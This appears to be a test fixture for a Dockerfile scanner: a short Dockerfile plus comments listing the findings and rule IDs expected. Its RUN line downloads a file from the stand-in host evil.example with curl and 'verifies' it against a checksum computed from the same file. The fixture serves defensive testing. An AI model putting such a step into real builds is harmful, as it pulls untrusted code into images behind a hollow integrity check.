FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && sha256sum /a > /a.sha && sha256sum -c /a.sha
USER app
# expect: download 2 high "a list the Dockerfile does not show"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR501-e064bac1a6
